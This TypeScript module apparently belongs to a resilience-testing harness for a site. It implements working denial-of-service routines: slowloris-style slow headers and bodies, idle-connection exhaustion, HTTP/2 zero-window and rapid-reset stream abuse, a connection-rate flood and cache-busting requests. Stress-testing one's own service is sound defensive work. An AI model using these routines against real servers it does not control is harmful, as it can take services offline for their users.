import { connect, constants, type ClientHttp2Session } from 'node:http2';
import {
  countStatus,
  keepOpen,
  open,
  pause,
  SITE,
  untilClosed,
  type Attack,
  type AttackContext,
  type AttackKind,
} from './attack.ts';

/** Connections of an attacker, unless its kind sets another number. */
const CONNECTIONS = 300;
const IDLE_CONNECTIONS = 1_000;
/** Parallel loops of the attacks that connect or request as fast as they can. */
const WORKERS = 50;

const GET = `GET /products HTTP/1.1\r\nHost: ${SITE}\r\n`;

/** Connections that send nothing. */
const idleConnections: Attack = (context) =>
  keepOpen(context, IDLE_CONNECTIONS, (socket) => untilClosed(socket, context));

/** Requests whose headers arrive at a byte per second and never end. */
const slowHeaders: Attack = (context) =>
  keepOpen(context, CONNECTIONS, (socket) => {
    context.counts.sent += 1;
    socket.write(`${GET}X-Slow: `);
    return untilClosed(socket, context, () => socket.write('a'));
  });

/** Requests whose body arrives at a byte per second and does not end in time. */
const slowBodies: Attack = (context) =>
  keepOpen(context, CONNECTIONS, (socket) => {
    context.counts.sent += 1;
    socket.write(
      `POST /api/beacons HTTP/1.1\r\nHost: ${SITE}\r\nContent-Type: text/plain\r\nContent-Length: 100\r\n\r\n`,
    );
    return untilClosed(socket, context, () => socket.write('a'));
  });

/** HTTP/2 connections, and streams on each: requests without an end, responses that flow control blocks, and streams that are reset at once. */
const SESSIONS = 10;
const STREAMS = 100;

type Abuse = 'unfinished' | 'unread' | 'reset';

const http2Streams: Attack = (context) => keepSessions(context, ['unfinished', 'unread', 'reset']);

/**
 * Responses that flow control blocks: an HTTP/2 client announces a window of 0 beforehand. Over HTTP/1, the kernels buffer about sixty pages of this
 * site for each connection (360 KB, measured), and the request limit allows hardly more than a dozen such connections.
 */
const slowReaders: Attack = (context) => keepSessions(context, ['unread']);

/** Keeps {@link SESSIONS} HTTP/2 connections, each with one of these kinds of abuse. */
async function keepSessions(context: AttackContext, ways: readonly [Abuse, ...Abuse[]]): Promise<void> {
  await Promise.all(
    Array.from({ length: SESSIONS }, async (_, index) => {
      while (!context.signal.aborted) {
        await abuseSession(context, ways[index % ways.length] ?? ways[0]);
        await pause(200, context.signal);
      }
    }),
  );
}

function openSession({ target, counts }: AttackContext, isRead: boolean): Promise<ClientHttp2Session | undefined> {
  const { host, port, isTls } = target;
  const session = connect(`${isTls ? 'https' : 'http'}://${host}:${port}`, {
    rejectUnauthorized: false,
    settings: { initialWindowSize: isRead ? 65_535 : 0, enablePush: false },
  });
  return new Promise((resolve) => {
    let isOpen = false;
    session.once('connect', () => {
      isOpen = true;
      counts.connected += 1;
      counts.open += 1;
      resolve(session);
    });
    session.on('error', () => undefined);
    session.once('close', () => {
      if (isOpen) counts.open -= 1;
      else counts.refused += 1;
      resolve(undefined);
    });
  });
}

async function abuseSession(context: AttackContext, how: Abuse): Promise<void> {
  const { counts, signal } = context;
  const session = await openSession(context, how !== 'unread');
  if (session === undefined) return;
  const closed = new Promise<void>((resolve) => {
    session.once('close', resolve);
  });
  const end = (): void => {
    session.destroy();
  };
  signal.addEventListener('abort', end, { once: true });
  // A function, because the session changes while this waits.
  const hasEnded = (): boolean => session.closed || session.destroyed || signal.aborted;
  while (!hasEnded()) {
    for (let count = 0; count < STREAMS && !hasEnded(); count += 1) {
      counts.sent += 1;
      const method = how === 'unfinished' ? 'POST' : 'GET';
      const stream = session.request(
        { ':method': method, ':path': how === 'unfinished' ? '/api/beacons' : '/products', ':authority': SITE },
        { endStream: how !== 'unfinished' },
      );
      stream.on('error', () => undefined);
      stream.once('response', ({ ':status': status }) => {
        counts.statuses[String(status)] = (counts.statuses[String(status)] ?? 0) + 1;
      });
      if (how === 'reset') stream.close(constants.NGHTTP2_CANCEL);
      else if (how === 'unfinished') stream.resume();
    }
    await Promise.race([closed, pause(how === 'reset' ? 20 : 1_000, signal)]);
  }
  signal.removeEventListener('abort', end);
  session.destroy();
  await closed;
}

/** Connections that are closed as soon as they are established. */
const connectionRate: Attack = async (context) => {
  const { signal } = context;
  await Promise.all(
    Array.from({ length: WORKERS }, async () => {
      while (!signal.aborted) {
        const socket = await open(context);
        // Node cannot reset the TCP connection below TLS.
        if (context.target.isTls) socket?.destroy();
        else socket?.resetAndDestroy();
        await pause(5, signal);
      }
    }),
  );
};

/** Pages with unique URLs, so that each is a cache miss. */
const cacheBusting: Attack = async (context) => {
  const { counts, signal } = context;
  await keepOpen(context, WORKERS, async (socket) => {
    while (!signal.aborted && !socket.destroyed) {
      counts.sent += 1;
      const path = `/products?page=1&bust=${String(Math.random()).slice(2)}`;
      socket.write(`GET ${path} HTTP/1.1\r\nHost: ${SITE}\r\n\r\n`);
      if (!(await readResponse(socket, context))) break;
    }
    socket.destroy();
  });
};

/** Whether a complete response arrived: it ends with the last bytes of a page. */
function readResponse(socket: NonNullable<Awaited<ReturnType<typeof open>>>, context: AttackContext): Promise<boolean> {
  const { counts, signal } = context;
  return new Promise((resolve) => {
    let text = '';
    const end = (whole: boolean): void => {
      socket.off('data', take);
      socket.off('close', broken);
      signal.removeEventListener('abort', broken);
      resolve(whole);
    };
    const broken = (): void => {
      end(false);
    };
    const take = (chunk: Buffer): void => {
      text = (text + chunk.toString('latin1')).slice(-16_384);
      if (!/<\/html>\s*(0\r\n\r\n)?$/.test(text)) return;
      end(true);
    };
    socket.once('data', (chunk: Buffer) => {
      countStatus(counts, chunk);
    });
    socket.on('data', take);
    socket.once('close', broken);
    signal.addEventListener('abort', broken, { once: true });
  });
}

export const ATTACK_OF: Readonly<Record<AttackKind, Attack>> = {
  'idle-connections': idleConnections,
  'slow-headers': slowHeaders,
  'slow-bodies': slowBodies,
  'slow-readers': slowReaders,
  'http2-streams': http2Streams,
  'connection-rate': connectionRate,
  'cache-busting': cacheBusting,
};
